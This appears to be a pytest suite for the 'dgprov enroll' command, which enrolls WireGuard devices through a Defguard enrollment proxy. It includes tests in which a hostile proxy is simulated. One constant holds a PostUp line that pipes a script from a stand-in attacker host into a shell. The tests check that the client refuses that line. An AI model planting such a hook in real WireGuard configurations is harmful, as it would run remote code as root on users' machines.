"""``dgprov enroll`` against the sandbox's enrollment proxy, on both server lines."""

from __future__ import annotations

import getpass
import json
import shutil
import stat
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from dgprov import client_files
from dgprov.cli import main
from dgprov.device_files import key_pair_from_private

from ..conftest import Running, StartSandbox, example_tenant
from .hostile import Exchange, Route, hostile, replying

PASSWORD = "Str0ng-Passw0rd!"


def tenant(**instance: Any) -> dict[str, Any]:
    """The example tenant with MFA not required at activation (its Lab location uses internal
    MFA, which would make the proxy require it, and dgprov leaves MFA set-up to the desktop
    app: test_enroll_fidelity.py), and any other instance fields given."""
    document = example_tenant()
    document["instance"].update({"mfa_required": False, **instance})
    return document


def provisioning_file(tmp_path: Path, running: Running, token: str) -> Path:
    path = tmp_path / "provisioning.json"
    config = client_files.ProvisioningConfig(running.info["proxy_url"] + "/", token)
    client_files.write(path, config)
    return path


def enroll(tmp_path: Path, *extra: str, password: str | None = PASSWORD) -> Result:
    args = [
        "enroll",
        "--provisioning-file",
        str(tmp_path / "provisioning.json"),
        "--output-dir",
        str(tmp_path / "wg"),
        *extra,
    ]
    if password is not None:
        (tmp_path / "password").write_text(password + "\n")
        args += ["--password-file", str(tmp_path / "password")]
    return CliRunner().invoke(main, args)


def desktop_token(running: Running, username: str) -> str:
    """A start_desktop token, as generate-tokens issues for enrolled users."""
    response = running.core.post(f"/api/v1/user/{username}/start_desktop", json={})
    token: str = response.json()["enrollment_token"]
    return token


def private_key(path: Path) -> str:
    line = next(line for line in path.read_text().splitlines() if line.startswith("PrivateKey"))
    return line.split("=", 1)[1].strip()


def registered_keys(running: Running, username: str) -> list[str]:
    devices = running.anonymous.get(f"/_sandbox/users/{username}").json()["devices"]
    return [d["wireguard_pubkey"] for d in devices]


def test_enrollment_token_with_activation(
    start_sandbox: StartSandbox, line: str, tmp_path: Path
) -> None:
    running = start_sandbox(tenant(), line)
    token = running.issue("jdoe")
    provisioning_file(tmp_path, running, token)
    result = enroll(tmp_path, "--device-name", "jdoe-laptop", "--phone", "+48123456789")
    assert result.exit_code == 0, result.output
    assert "HQ:" in result.output and "Lab:" in result.output
    assert "needs internal MFA" in result.output  # the Lab location
    configs = {p.name: p for p in (tmp_path / "wg").glob("*.conf")}
    assert set(configs) == {"HQ.conf", "Lab.conf"}
    for path in configs.values():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert "YOUR_PRIVATE_KEY" not in path.read_text()
    keys = key_pair_from_private(private_key(configs["HQ.conf"]))
    assert registered_keys(running, "jdoe") == [keys.public]
    user = running.core.get("/api/v1/user/jdoe").json()["user"]
    assert user["enrolled"] is True and user["phone"] == "+48123456789"
    state = tmp_path / "wg" / "dgprov-enrollment.json"
    assert stat.S_IMODE(state.stat().st_mode) == 0o600
    assert (
        keys.private not in state.read_text()
        and json.loads(state.read_text())["device"]["public_key"] == keys.public
    )
    assert keys.private not in result.output and token not in result.output


@pytest.mark.skipif(shutil.which("wg") is None, reason="wireguard-tools (wg) is not installed")
def test_wg_agrees_on_the_public_key(start_sandbox: StartSandbox, tmp_path: Path) -> None:
    running = start_sandbox(tenant())
    provisioning_file(tmp_path, running, running.issue("jdoe"))
    assert enroll(tmp_path).exit_code == 0
    private = private_key(tmp_path / "wg" / "HQ.conf")
    public = subprocess.run(
        ["wg", "pubkey"], input=private, capture_output=True, text=True, check=True
    ).stdout.strip()
    assert registered_keys(running, "jdoe") == [public]


def test_desktop_token_for_an_enrolled_user(
    start_sandbox: StartSandbox, line: str, tmp_path: Path
) -> None:
    running = start_sandbox(tenant(), line)
    provisioning_file(tmp_path, running, desktop_token(running, "enrolled"))
    result = enroll(tmp_path, password=None)  # no password needed: the account is active
    assert result.exit_code == 0, result.output
    assert len(registered_keys(running, "enrolled")) == 2  # ed-laptop and this one


@pytest.mark.parametrize(
    ("setup", "message"),
    [
        (
            "expired",
            "has expired; ask your administrator for one: dgprov generate-tokens --member",
        ),
        ("unknown", "unknown, or was used and its session is over"),
        ("disabled", "your Defguard account is disabled"),
    ],
)
def test_token_states(
    start_sandbox: StartSandbox, line: str, tmp_path: Path, setup: str, message: str
) -> None:
    running = start_sandbox(tenant(), line)
    token = running.issue("jdoe", token_expiration_time="1h")
    if setup == "expired":
        running.advance_clock(3601)
    elif setup == "unknown":
        token = "x" * 32
    else:
        with running.state.lock:
            running.state.users["jdoe"].is_active = False
    provisioning_file(tmp_path, running, token)
    result = enroll(tmp_path)
    assert result.exit_code == 1 and message in result.output
    assert not (tmp_path / "wg").exists()


def test_invalid_device_name(start_sandbox: StartSandbox, line: str, tmp_path: Path) -> None:
    running = start_sandbox(tenant(), line)
    provisioning_file(tmp_path, running, running.issue("jdoe"))
    result = enroll(tmp_path, "--device-name", "")
    assert result.exit_code == 1 and "Cannot add a new device with no name" in result.output


def test_reuse_inside_and_outside_the_session_window(
    start_sandbox: StartSandbox, line: str, tmp_path: Path
) -> None:
    running = start_sandbox(tenant(), line)
    token = desktop_token(running, "enrolled")
    provisioning_file(tmp_path, running, token)
    assert enroll(tmp_path, password=None).exit_code == 0
    running.advance_clock(5 * 60)
    provisioning_file(tmp_path, running, token)  # the file is renamed after each success
    again = enroll(tmp_path, "--output-dir", str(tmp_path / "second"), password=None)
    assert again.exit_code == 0, again.output
    running.advance_clock(6 * 60)
    provisioning_file(tmp_path, running, token)
    late = enroll(tmp_path, "--output-dir", str(tmp_path / "third"), password=None)
    assert late.exit_code == 1 and "was used and its session is over" in late.output


def test_refresh_keeps_the_key(start_sandbox: StartSandbox, line: str, tmp_path: Path) -> None:
    running = start_sandbox(tenant(), line)
    provisioning_file(tmp_path, running, running.issue("jdoe"))
    assert enroll(tmp_path).exit_code == 0
    before = private_key(tmp_path / "wg" / "HQ.conf")
    state_before = json.loads((tmp_path / "wg" / "dgprov-enrollment.json").read_text())
    (tmp_path / "wg" / "HQ.conf").write_text(
        (tmp_path / "wg" / "HQ.conf").read_text().replace("Endpoint", "#Endpoint")
    )
    result = CliRunner().invoke(main, ["enroll", "--refresh", "--output-dir", str(tmp_path / "wg")])
    assert result.exit_code == 0, result.output
    assert "refreshed jdoe" in result.output
    assert private_key(tmp_path / "wg" / "HQ.conf") == before
    assert "#Endpoint" not in (tmp_path / "wg" / "HQ.conf").read_text()
    state_after = json.loads((tmp_path / "wg" / "dgprov-enrollment.json").read_text())
    assert state_after["device"] == state_before["device"]
    assert before not in result.output
    # The polling token kept (or the new one, if the proxy rotated it) works again.
    again = CliRunner().invoke(main, ["enroll", "--refresh", "--output-dir", str(tmp_path / "wg")])
    assert again.exit_code == 0, again.output


def test_weak_password_is_refused_before_any_device(
    start_sandbox: StartSandbox, tmp_path: Path
) -> None:
    running = start_sandbox(tenant())
    provisioning_file(tmp_path, running, running.issue("jdoe"))
    result = enroll(tmp_path, password="weakpass")
    assert result.exit_code == 2 and "an ASCII upper-case letter" in result.output
    assert registered_keys(running, "jdoe") == []


def test_usage_errors(tmp_path: Path) -> None:
    missing = CliRunner().invoke(
        main, ["enroll", "--provisioning-file", str(tmp_path / "nope.json")]
    )
    assert missing.exit_code == 2 and "run dgprov fetch-config first" in missing.output
    (tmp_path / "bad.json").write_text('{"enrollmentUrl": "x"}')
    malformed = CliRunner().invoke(
        main, ["enroll", "--provisioning-file", str(tmp_path / "bad.json")]
    )
    assert (
        malformed.exit_code == 2
        and "expected a JSON object with enrollment_url" in malformed.output
    )
    no_state = CliRunner().invoke(
        main, ["enroll", "--refresh", "--output-dir", str(tmp_path / "wg")]
    )
    assert no_state.exit_code == 2 and "enroll first" in no_state.output


def test_password_needed_without_a_terminal(start_sandbox: StartSandbox, tmp_path: Path) -> None:
    running = start_sandbox(tenant())
    provisioning_file(tmp_path, running, running.issue("jdoe"))
    result = enroll(tmp_path, password=None)
    assert result.exit_code == 2 and "--password-file" in result.output
    assert registered_keys(running, "jdoe") == []


def test_whole_chain(
    start_sandbox: StartSandbox, line: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """generate-tokens -> fetch-config -> enroll, from an empty sandbox to WireGuard files."""
    from dgprov_sandbox.tenant import synthetic_tenant

    from .test_fetch_config import fetch, provision

    running = start_sandbox(synthetic_tenant(3, 41), line)
    assert running.anonymous.get("/_sandbox/tokens").json()["tokens"] == []
    provision(running, tmp_path)
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "xdg"))
    me = getpass.getuser()
    fetched = fetch(running, tmp_path, running.info["user_upns"][0], "--for-user", me)
    assert fetched.exit_code == 0, fetched.output
    (tmp_path / "password").write_text(PASSWORD)
    result = CliRunner().invoke(
        main, ["enroll", "--password-file", str(tmp_path / "password"), "--device-name", "box"]
    )
    assert result.exit_code == 0, result.output
    config = tmp_path / "xdg" / "net.defguard" / "wireguard" / "HQ.conf"
    keys = key_pair_from_private(private_key(config))
    assert registered_keys(running, "user0001") == [keys.public]
    assert running.anonymous.get("/_sandbox/users/user0001").json()["enrolled"] is True
    text = fetched.output + result.output
    assert keys.private not in text
    (used,) = (tmp_path / "xdg" / "net.defguard").glob("provisioning.json.used-*")
    assert not (tmp_path / "xdg" / "net.defguard" / "provisioning.json").exists()
    token = json.loads(used.read_text())["enrollment_token"]
    assert token not in text


# ------------------------------------------------------------- a proxy that is not what it seems

HOOK = "PostUp = curl -s https://attacker.example/x | sh"
ALLOWED_KEYS = {
    "PrivateKey", "Address", "DNS", "MTU", "ListenPort",
    "PublicKey", "PresharedKey", "AllowedIPs", "Endpoint", "PersistentKeepalive",
}  # fmt: skip


def instances(body: Any) -> list[dict[str, Any]]:
    """The ``instance`` objects of a proxy answer (start, create_device, network_info, poll)."""
    found = [body.get("instance"), (body.get("device_config") or {}).get("instance")]
    return [instance for instance in found if isinstance(instance, dict)]


def forwarded(
    proxy: str, change: Any = None, *, proxy_url: Callable[[str], str] | None = None
) -> Route:
    """A forwarder in front of the proxy that Defguard knows as its public proxy URL (so every
    ``instance.proxy_url`` names the forwarder, or ``proxy_url(path)`` for that answer), then
    ``change`` applied to the answer."""

    def route(exchange: Exchange) -> None:
        own = f"http://{exchange.request.headers['host']}/"

        def changed(body: Any) -> Any:
            for instance in instances(body):
                instance["proxy_url"] = proxy_url(exchange.path) if proxy_url else own
            return change(body) if change is not None else body

        exchange.forward(proxy, changed)

    return route


def through(server_url: str, tmp_path: Path, token: str) -> None:
    """provisioning.json pointing at ``server_url`` (a forwarder in front of the proxy)."""
    client_files.write(
        tmp_path / "provisioning.json", client_files.ProvisioningConfig(server_url + "/", token)
    )


def with_hook(body: Any) -> Any:
    """The create_device answer with a command in HQ's [Interface]."""
    for config in body["configs"]:
        if config["network_name"] == "HQ":
            config["config"] = config["config"].replace("[Interface]\n", f"[Interface]\n{HOOK}\n")
    return body


def keys_in(path: Path) -> set[str]:
    lines = [line for line in path.read_text().splitlines() if "=" in line]
    return {line.split("=", 1)[0].strip() for line in lines}


def test_hostile_proxy_cannot_put_commands_into_wireguard_files(
    start_sandbox: StartSandbox, tmp_path: Path
) -> None:
    """wg-quick runs PostUp as root: a create_device answer carrying one is refused for that
    location, and no file written holds anything but the allow-listed keys."""
    running = start_sandbox(tenant())
    proxy = running.info["proxy_url"]

    def route(exchange: Exchange) -> None:
        spoiled = exchange.path.endswith("/create_device")
        forwarded(proxy, with_hook if spoiled else None)(exchange)

    with hostile(route) as forwarder:
        through(forwarder.url, tmp_path, running.issue("jdoe"))
        result = enroll(tmp_path)
    assert result.exit_code == 1, result.output
    assert "location 'HQ'" in result.output and "PostUp would run a command" in result.output
    written = sorted((tmp_path / "wg").glob("*.conf"))
    assert [path.name for path in written] == ["Lab.conf"]
    for path in written:
        assert keys_in(path) <= ALLOWED_KEYS and "curl" not in path.read_text()
    pending = tmp_path / "wg" / "dgprov-pending-key.json"
    assert str(pending) in result.output.replace("\n", "")
    assert key_pair_from_private(private_key(written[0])).public in registered_keys(running, "jdoe")


def test_refresh_polls_only_the_origin_the_token_went_to(
    start_sandbox: StartSandbox, tmp_path: Path
) -> None:
    """An answer after ``start`` naming another proxy address cannot move where the polling
    token goes (``start``'s is followed only within the origin: test_enroll_fidelity.py)."""
    running = start_sandbox(tenant())
    proxy = running.info["proxy_url"]
    with hostile(replying(200, {})) as elsewhere:
        holder: list[str] = []

        def named(path: str) -> str:
            return holder[0] + "/" if path.endswith("/start") else elsewhere.url + "/"

        with hostile(forwarded(proxy, proxy_url=named)) as forwarder:
            holder.append(forwarder.url)
            through(forwarder.url, tmp_path, running.issue("jdoe"))
            assert enroll(tmp_path).exit_code == 0
            args = ["enroll", "--refresh", "--output-dir", str(tmp_path / "wg")]
            refreshed = CliRunner().invoke(main, args)
            again = CliRunner().invoke(main, args)
        state = json.loads((tmp_path / "wg" / "dgprov-enrollment.json").read_text())
    assert refreshed.exit_code == 0 and again.exit_code == 0, refreshed.output + again.output
    assert elsewhere.received == []
    assert state["instance"]["proxy_url"] == forwarder.url + "/"


@pytest.mark.parametrize(
    ("where", "spoil", "message"),
    [
        ("/start", lambda body: {k: v for k, v in body.items() if k != "user"}, "'user'"),
        ("/start", lambda body: {**body, "user": {**body["user"], "enrolled": "no"}}, "'enrolled'"),
        ("/create_device", lambda body: {**body, "configs": {}}, "'configs' is an object"),
        ("/create_device", lambda body: {**body, "device": None}, "'device' is missing"),
    ],
)
def test_malformed_proxy_answer_is_one_clear_error(
    start_sandbox: StartSandbox, tmp_path: Path, where: str, spoil: Any, message: str
) -> None:
    running = start_sandbox(tenant())
    proxy = running.info["proxy_url"]

    def route(exchange: Exchange) -> None:
        forwarded(proxy, spoil if exchange.path.endswith(where) else None)(exchange)

    with hostile(route) as forwarder:
        through(forwarder.url, tmp_path, running.issue("jdoe"))
        result = enroll(tmp_path)
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit) and "Traceback" not in result.output
    assert "the enrollment proxy answered 200: unusable answer" in result.output
    assert message in result.output
    if where == "/create_device":  # registered, but the key is kept for the re-run
        assert "dgprov-pending-key.json" in result.output


# ---------------------------------------------------------------- provisioning.json, local files


@pytest.mark.parametrize(
    ("url", "token", "field"),
    [
        ("http://enroll.corp.example/", "A" * 32, "enrollment_url"),
        ("https://user:secret@{host}/", "A" * 32, "enrollment_url"),
        ("{origin}/", "AAAA AAAA", "enrollment_token"),
        ("{origin}/", "AAAA\u00e9AAA", "enrollment_token"),
    ],
)
def test_provisioning_json_is_checked_before_any_network_call(
    tmp_path: Path, url: str, token: str, field: str
) -> None:
    """The rules of fetch-config (https, http on loopback only; a printable token), before the
    token is sent anywhere."""
    with hostile(replying(500, {})) as server:
        host = server.url.removeprefix("http://")
        document = {
            "enrollment_url": url.format(origin=server.url, host=host),
            "enrollment_token": token,
        }
        (tmp_path / "provisioning.json").write_text(json.dumps(document))
        result = enroll(tmp_path)
    assert result.exit_code == 2, result.output
    assert f"provisioning.json: {field}: " in result.output.replace("\n", "")
    assert "nothing was sent" in result.output
    assert server.received == []
    assert token not in result.output and "secret" not in result.output


def test_unwritable_output_dir_registers_nothing(
    start_sandbox: StartSandbox, tmp_path: Path
) -> None:
    running = start_sandbox(tenant())
    provisioning_file(tmp_path, running, running.issue("jdoe"))
    (tmp_path / "a-file").write_text("not a directory")
    result = enroll(tmp_path, "--output-dir", str(tmp_path / "a-file" / "wg"))
    assert result.exit_code == 2, result.output
    assert "--output-dir" in result.output and "nothing was registered" in result.output
    assert registered_keys(running, "jdoe") == []


@pytest.mark.parametrize("finish", ["enroll again", "refresh"])
def test_a_failed_write_keeps_the_key_and_the_rerun_reuses_the_device(
    start_sandbox: StartSandbox, tmp_path: Path, finish: str
) -> None:
    """The device exists when the files are written. If that fails, the key waits in a 0600
    file whose path is printed, and the next run finishes with the same device."""
    running = start_sandbox(tenant())
    provisioning_file(tmp_path, running, running.issue("jdoe"))
    blocked = ["HQ.conf"] if finish == "enroll again" else ["HQ.conf", "Lab.conf"]
    for name in blocked:  # a directory where the file should go: the write fails
        (tmp_path / "wg" / name).mkdir(parents=True)
    failed = enroll(tmp_path)
    assert failed.exit_code == 1, failed.output
    pending = tmp_path / "wg" / "dgprov-pending-key.json"
    assert str(pending) in failed.output.replace("\n", "")
    assert stat.S_IMODE(pending.stat().st_mode) == 0o600
    kept = key_pair_from_private(json.loads(pending.read_text())["private_key"])
    assert registered_keys(running, "jdoe") == [kept.public]
    assert kept.private not in failed.output
    assert running.core.get("/api/v1/user/jdoe").json()["user"]["enrolled"] is True
    for name in blocked:
        (tmp_path / "wg" / name).rmdir()
    if finish == "enroll again":
        result = enroll(tmp_path, password=None)
    else:
        result = CliRunner().invoke(
            main, ["enroll", "--refresh", "--output-dir", str(tmp_path / "wg")]
        )
    assert result.exit_code == 0, result.output
    assert registered_keys(running, "jdoe") == [kept.public]  # still one device
    for name in ("HQ.conf", "Lab.conf"):
        assert private_key(tmp_path / "wg" / name) == kept.private
    assert not pending.exists()
